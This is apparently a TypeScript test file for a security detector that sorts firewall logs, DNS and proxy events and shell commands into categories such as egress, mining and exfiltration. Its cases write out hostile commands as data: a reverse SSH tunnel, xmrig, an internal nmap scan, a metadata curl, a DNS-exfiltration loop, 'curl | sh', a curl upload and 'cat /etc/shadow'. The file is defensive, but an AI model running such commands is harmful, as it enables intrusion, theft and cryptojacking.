import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classifyCommand, createDetector, rulePacks } from '../../src/detect/index.ts';
import type { Event } from '../../src/model/event.ts';
import { approved, dnsQuery, network, processEvent, proxied } from './events.ts';

const detector = createDetector(rulePacks, { inventory: [] });
const inside = { ip: '10.20.1.5', port: 40000 };
const outside = { ip: '198.51.100.77', port: 443 };
const category = (event: Event): string | undefined => detector.observe(event)?.category;

/** A netfilter LOG record: a prefix and no verdict. */
const logged = (prefix: string, dst = outside): Event =>
  network({ format: 'netfilter-log', rule: { name: prefix }, src: inside, dst });

describe('a netfilter prefix', () => {
  it.each([
    ['a name without a verdict word was written to be seen', 'FW-META', true],
    ['a name may hold a word that holds another', 'FW-PROXY-NONMIRROR', true],
    ['ufw says BLOCK', '[UFW BLOCK] ', true],
    ['ufw audits what it lets through', '[UFW AUDIT] ', false],
    ['ufw says ALLOW', '[UFW ALLOW] ', false],
    ['UniFi ends a dropping rule with D', '[WAN_LOCAL-default-D]', true],
    ['UniFi ends an accepting rule with A', '[LAN_OUT-2001-A]', false],
    ['firewalld joins words with underscores', 'filter_IN_public_REJECT: ', true],
    ['Shorewall accepts', 'Shorewall:loc2net:ACCEPT:', false],
    ['Shorewall rejects', 'Shorewall:FORWARD:REJECT:', true],
    ['Proxmox drops by policy', 'policy DROP: ', true],
    ['a NAT rule is no policy', 'POSTROUTING-SNAT: ', false],
    ['a trace is no policy', 'TRACE: raw:PREROUTING:policy:2 ', false],
    ['new connections are only watched', '[NEW] ', false],
    ['a dropped new connection is dropped', 'DROP-NEW-NOT-SYN ', true],
    ['a negated permission is a denial', 'FW NOT-ALLOWED ', true],
    ['blank space is no prefix', '  ', false],
  ])('%s: %s', (_sentence, prefix, violation) => {
    expect(detector.observe(logged(prefix)) !== undefined).toBe(violation);
  });

  it('keeps the name of the rule and trims it', () => {
    expect(detector.observe(logged('FW-META '))).toMatchObject({
      rule: { id: 'FW-META', name: 'FW-META' },
      strength: 'verdict',
    });
  });

  it('means nothing when the record says that the packet passed', () => {
    expect(
      detector.observe(network({ format: 'ulogd2-json', action: 'allow', rule: { name: 'FW-X' } })),
    ).toBeUndefined();
  });

  it('means nothing in a format that states its verdicts', () => {
    expect(detector.observe(network({ format: 'pf-filterlog', rule: { name: '77' } }))).toBeUndefined();
  });
});

describe('a sensor verdict', () => {
  it.each<[string, string | undefined, Event]>([
    ['a denied packet to metadata', 'metadata-access', logged('FW', { ip: '169.254.169.254', port: 80 })],
    ['a denied packet to metadata by IPv6', 'metadata-access', logged('FW', { ip: 'fd00:ec2::254', port: 80 })],
    [
      'a denied packet between internal hosts',
      'internal-probe',
      logged('FW-INT-DENY', { ip: '10.20.0.6', port: 6379 }),
    ],
    ['a denied packet to the outside', 'unapproved-egress', logged('FW-EGRESS-DENY')],
    [
      'a denied packet to a stratum port',
      'cryptomining',
      network({ action: 'deny', transport: 'tcp', src: inside, dst: { ip: '198.51.100.23', port: 3333 } }),
    ],
    [
      'an allowed flow to a stratum port',
      undefined,
      network({
        type: 'flow',
        action: 'allow',
        transport: 'tcp',
        src: inside,
        dst: { ip: '198.51.100.23', port: 3333 },
      }),
    ],
    ['a denied packet from the outside', 'policy-violation', network({ action: 'deny', src: outside, dst: inside })],
    [
      'a denied packet whose opener is the second address',
      'internal-probe',
      network({ action: 'deny', src: { ip: '10.20.0.6' }, dst: inside, initiator: 'dst' }),
    ],
    [
      'an alert keeps its text over its resolver',
      'cryptomining',
      network({
        type: 'alert',
        action: 'alert',
        src: inside,
        dst: { ip: '10.20.0.53', port: 53 },
        rule: { name: 'POLICY DNS query for mining pool domain' },
      }),
    ],
    [
      'an alert on a long label',
      'dns-exfiltration',
      network({
        type: 'alert',
        action: 'alert',
        rule: { name: 'SUSPICIOUS DNS query with very long label (possible exfiltration)' },
      }),
    ],
    [
      'an alert on an SSH banner',
      'reverse-tunnel',
      network({
        type: 'alert',
        action: 'alert',
        src: inside,
        dst: outside,
        rule: { name: 'POLICY Outbound SSH client banner' },
      }),
    ],
    [
      'an alert on a scan',
      'internal-probe',
      network({
        type: 'alert',
        action: 'alert',
        src: inside,
        dst: { ip: '10.20.0.6' },
        rule: { name: 'SCAN connection attempts to internal services' },
      }),
    ],
    [
      'an alert that names nothing known',
      'policy-violation',
      network({ type: 'alert', action: 'alert', src: inside, dst: outside, rule: { name: 'local rule 7' } }),
    ],
    ['a denied proxy request', 'unapproved-egress', proxied('http://a.example/', { action: 'deny' })],
    [
      'a request for proxy credentials',
      undefined,
      proxied('http://a.example/', { action: 'deny', http: { status: 407 } }),
    ],
    ['a denied query', 'unapproved-egress', dnsQuery('a.example', { action: 'deny' })],
    ['a denied query for a pool', 'cryptomining', dnsQuery('pool.xmr-north.example', { action: 'deny' })],
    [
      'a host sensor on a miner',
      'cryptomining',
      processEvent({ op: 'alert', rule: { name: 'odd' }, commandLine: './xmrig -o a:1' }),
    ],
    [
      'a host sensor on a socket',
      'unapproved-egress',
      processEvent({
        op: 'alert',
        rule: { name: 'odd' },
        socket: { transport: 'tcp', local: inside, remote: outside },
      }),
    ],
    [
      'a host sensor on a file',
      undefined,
      processEvent({ op: 'alert', rule: { name: 'Read sensitive file' }, commandLine: 'cat /etc/shadow' }),
    ],
  ])('%s: %s', (_sentence, wanted, event) => {
    expect(category(event)).toBe(wanted);
  });

  it('names the sensor when it gave no rule', () => {
    expect(detector.observe(network({ action: 'deny', actionRaw: 'REJECT', format: 'aws-vpcflow' }))?.rule).toEqual({
      id: 'aws-vpcflow:REJECT',
      name: 'aws-vpcflow REJECT',
    });
  });

  it('takes the severity of the sensor when no pack knows better', () => {
    const event = network({ type: 'alert', action: 'alert', severity: 3, rule: { name: 'local rule 7' } });
    expect(detector.observe(event)?.severity).toBe('high');
  });
});

describe('passed traffic', () => {
  const label = 'wx5xho5jausdem4zsxpsr6qzwgerqbegzirosuoiatcb7wku';
  it.each<[string, string | undefined, Event]>([
    ['a query for a pool', 'cryptomining', dnsQuery('pool.xmr-harbor.example')],
    ['the forward of that query', undefined, dnsQuery('pool.xmr-harbor.example', { op: 'forward' })],
    ['the answer to that query', undefined, dnsQuery('pool.xmr-harbor.example', { op: 'answer' })],
    [
      'an IDS record of that query',
      undefined,
      network({
        type: 'dns',
        src: inside,
        dst: { ip: '10.20.0.53', port: 53 },
        dns: { name: 'pool.xmr-harbor.example' },
      }),
    ],
    [
      'an IDS record of a query for a public pool',
      'cryptomining',
      network({ type: 'dns', src: inside, dst: { ip: '10.20.0.53', port: 53 }, dns: { name: 'pool.supportxmr.com' } }),
    ],
    [
      'an IDS record of the answer',
      undefined,
      network({ type: 'dns', src: { ip: '10.20.0.53', port: 53 }, dst: inside, dns: { name: 'pool.supportxmr.com' } }),
    ],
    ['a query with an encoded label', 'dns-exfiltration', dnsQuery(`${label}.2.0cfb.t.example`)],
    ['a query for the relay itself', undefined, dnsQuery('relay.cdn-sync.example')],
    ['a query for a mirror', undefined, dnsQuery('mirror.pkgs.example')],
    ['a reverse query', undefined, dnsQuery('11.0.70.10.in-addr.arpa')],
    ['a script through the proxy', 'unapproved-egress', proxied('http://relay.example/stage2.sh')],
    ['an address through the proxy', 'unapproved-egress', proxied('http://198.51.100.77/k')],
    ['a mirror through the proxy', undefined, proxied('http://mirror.pkgs.example/simple/index.html')],
    [
      'an IDS record of that script',
      undefined,
      network({ type: 'http', src: inside, dst: outside, http: { url: 'http://relay.example/stage2.sh' } }),
    ],
    ['an executed miner', undefined, processEvent({ commandLine: './xmrig -o stratum+tcp://a:1' })],
    [
      'a connection to metadata',
      undefined,
      processEvent({
        op: 'connect',
        socket: { transport: 'tcp', local: inside, remote: { ip: '169.254.169.254', port: 80 } },
      }),
    ],
  ])('%s: %s', (_sentence, wanted, event) => {
    expect(category(event)).toBe(wanted);
  });

  it('to an approved host is left alone unless a strong rule speaks', () => {
    const strict = createDetector(rulePacks, { inventory: approved('files.example', 'supportxmr.com') });
    expect(strict.observe(proxied('http://files.example/setup.sh'))).toBeUndefined();
    expect(strict.observe(proxied('http://other.example/'))?.rule.id).toBe('not-approved');
    expect(strict.observe(dnsQuery('pool.supportxmr.com'))?.rule.id).toBe('miner-pool-known');
  });
});

describe('a command', () => {
  it.each([
    ['a remote forward', 'ssh -N -R 2222:localhost:22 a@b.example', 'reverse-tunnel'],
    ['a miner', './xmrig --donate-level 0', 'cryptomining'],
    ['a scan', 'nmap -p- 10.20.0.0/24', 'internal-probe'],
    ['metadata', 'curl http://169.254.169.254/', 'metadata-access'],
    ['encoded names', 'base32 k | while read l; do dig $l.t.example; done', 'dns-exfiltration'],
    ['a piped installer', 'curl http://a.example/i | sh', 'unapproved-egress'],
    ['an upload', 'curl -T a.tgz https://b.example/', 'data-exfiltration'],
    ['ordinary work', 'pytest -q && git status', undefined],
  ])('that is %s: %s', (_sentence, command, wanted) => {
    expect(classifyCommand(command)[0]?.category).toBe(wanted);
  });

  it('is looked at in its first 8192 characters, so that patterns come to an end whatever it holds', () => {
    const tunnel = 'ssh -N -R 2222:localhost:22 a@b.example';
    expect(classifyCommand(`${' '.repeat(8000)}${tunnel}`)[0]?.category).toBe('reverse-tunnel');
    expect(classifyCommand(`${' '.repeat(8192)}${tunnel}`)).toEqual([]);
    // A pattern that tries all ways to match runs into the time limit of the test.
    const hostile = ['for ', 'dig $a.', 'socket for ', 'tar | ', 'a.'];
    for (const piece of hostile) expect(classifyCommand(piece.repeat(20_000))).toEqual([]);
  });
});

describe('the detector', () => {
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom('', '.', '..', '-', 'http://[', '169.254.169.254', 'xn--', '999.1.1.1'),
  );
  const endpoint = fc.record({ ip: text, port: fc.integer(), domain: text }, { requiredKeys: [] });
  const events = fc.oneof(
    fc
      .record(
        {
          type: fc.constantFrom('packet', 'flow', 'alert', 'proxy', 'dns', 'http', 'tls', 'ssh', 'finding'),
          action: fc.constantFrom('allow', 'deny', 'alert', 'unknown'),
          src: endpoint,
          dst: endpoint,
          rule: fc.record({ id: text, name: text }, { requiredKeys: [] }),
          http: fc.record({ method: text, url: text, host: text, userAgent: text }, { requiredKeys: [] }),
          dns: fc.record({ name: text }),
          format: fc.constantFrom('netfilter-log', 'ulogd2-json', 'suricata-eve'),
          severity: fc.integer(),
        },
        { requiredKeys: ['type', 'action', 'src', 'dst', 'format'] },
      )
      .map((fields) => network(fields as Parameters<typeof network>[0])),
    fc.tuple(text, fc.constantFrom('query', 'answer', 'forward')).map(([name, op]) => dnsQuery(name, { op } as object)),
    text.map((commandLine) => processEvent({ op: 'alert', commandLine })),
  );

  it('never throws and judges an event alike whatever came before', () => {
    fc.assert(
      fc.property(fc.array(events, { maxLength: 8 }), (list) => {
        const forward = list.map((event) => detector.observe(event));
        const backward = [...list].reverse().map((event) => detector.observe(event));
        expect(forward).toEqual(backward.reverse());
      }),
      { numRuns: 300 },
    );
  });

  it('never throws on a command', () => {
    fc.assert(fc.property(fc.string({ maxLength: 400 }), (command) => Array.isArray(classifyCommand(command))));
  });
});
